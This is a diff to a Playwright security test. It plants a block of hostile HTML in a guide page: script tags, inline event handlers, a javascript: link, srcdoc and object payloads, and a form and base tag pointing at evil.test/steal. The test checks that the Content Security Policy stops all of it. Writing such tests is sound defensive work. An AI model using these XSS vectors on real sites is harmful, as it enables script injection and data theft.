@@ -1,5 +1,7 @@
-import { expect, test } from '@playwright/test'
+import { RECOMMENDED_SLUG } from '../../app/guides/guide'
 import { renderMarkdown } from '../../app/guides/markdown.server'
+import { paths } from '../../app/platform/paths'
+import { expect, test } from '../support/e2e'
 import { generatedHostile, HOSTILE } from '../support/hostile-markdown'
 
 /** Security row 41: hostile Markdown in a browser without any content policy, and nothing runs. */
@@ -88,5 +90,86 @@ test('the corpus and 2,000 generated texts run nothing, with the policy off', as
 	await expect
 		.poll(() => tab.evaluate(() => (window as never as { hits: unknown[] }).hits.length))
 		.toBeGreaterThan(0)
+	await context.close()
+})
+
+const PLANTED = `<div id="planted">
+	<p id="styled" style="position: fixed; color: rgb(1, 2, 3)">styled</p>
+	<style>#styled { color: rgb(1, 2, 3) }</style>
+	<script>HIT('script')</script>
+	<script src="data:text/javascript,HIT('data')"></script>
+	<img src="data:," onerror="HIT('onerror')" alt="">
+	<svg onload="HIT('onload')"><animate onbegin="HIT('onbegin')" attributeName="x" dur="1s"></animate></svg>
+	<button id="clicked" onclick="HIT('onclick')">click</button>
+	<a id="followed" href="javascript:HIT('href')">follow</a>
+	<details open ontoggle="HIT('ontoggle')"><summary>more</summary></details>
+	<iframe srcdoc="<script>parent.HIT('srcdoc')</script>"></iframe>
+	<object data="data:text/html,<script>parent.HIT('object')</script>"></object>
+	<form id="sent" action="https://evil.test/steal"><button>send</button></form>
+	<base href="https://evil.test/"></div>`
+
+test('security row 48: what gets past the sanitiser of a guide is stopped by the policy', async ({
+	browser,
+	app,
+}) => {
+	const context = await browser.newContext({ baseURL: app.origin })
+	const tab = await context.newPage()
+	await tab.addInitScript(() => {
+		const seen = { hits: [] as string[], violations: new Set<string>() }
+		Object.assign(window, { seen, HIT: (name: string) => seen.hits.push(name) })
+		document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
+			seen.violations.add(effectiveDirective)
+		})
+	})
+	const seen = () =>
+		tab.evaluate(() => {
+			const { hits, violations } = (
+				window as never as { seen: { hits: string[]; violations: Set<string> } }
+			).seen
+			return { hits, violations: [...violations].sort() }
+		})
+	const text = '<div class="prose guide__text">'
+	await tab.route(`**${paths.guide(RECOMMENDED_SLUG)}`, async (route) => {
+		const response = await route.fetch()
+		const html = await response.text()
+		expect(html).toContain(text)
+		await route.fulfill({ response, body: html.replace(text, text + PLANTED) })
+	})
+	await tab.goto(paths.guide(RECOMMENDED_SLUG))
+	await expect(tab.locator('#planted')).toHaveCount(1)
+	for (const id of ['clicked', 'followed']) await tab.locator(`#${id}`).click()
+	await tab.locator('#sent button').click()
+	const styled = tab.locator('#styled')
+	await expect(styled).not.toHaveCSS('color', 'rgb(1, 2, 3)')
+	await expect(styled).toHaveCSS('position', 'static')
+	await expect
+		.poll(async () => (await seen()).violations)
+		.toEqual([
+			'base-uri',
+			'form-action',
+			'object-src',
+			'script-src-attr',
+			'script-src-elem',
+			'style-src-attr',
+			'style-src-elem',
+		])
+	expect((await seen()).hits).toEqual([])
+	expect(new URL(tab.url()).origin).toBe(app.origin)
+	// Without the policy the same page does run it all, so that it is the policy that helps.
+	const open = await browser.newContext({ baseURL: app.origin, bypassCSP: true })
+	const bare = await open.newPage()
+	await bare.addInitScript(() => {
+		const hits: string[] = []
+		Object.assign(window, { hits, HIT: (name: string) => hits.push(name) })
+	})
+	await bare.goto(app.origin)
+	await bare.evaluate((html) => {
+		document.body.innerHTML = html
+	}, PLANTED)
+	await bare.locator('#clicked').click()
+	await expect
+		.poll(() => bare.evaluate(() => (window as never as { hits: string[] }).hits))
+		.toEqual(expect.arrayContaining(['onerror', 'onclick', 'ontoggle']))
+	await open.close()
 	await context.close()
 })
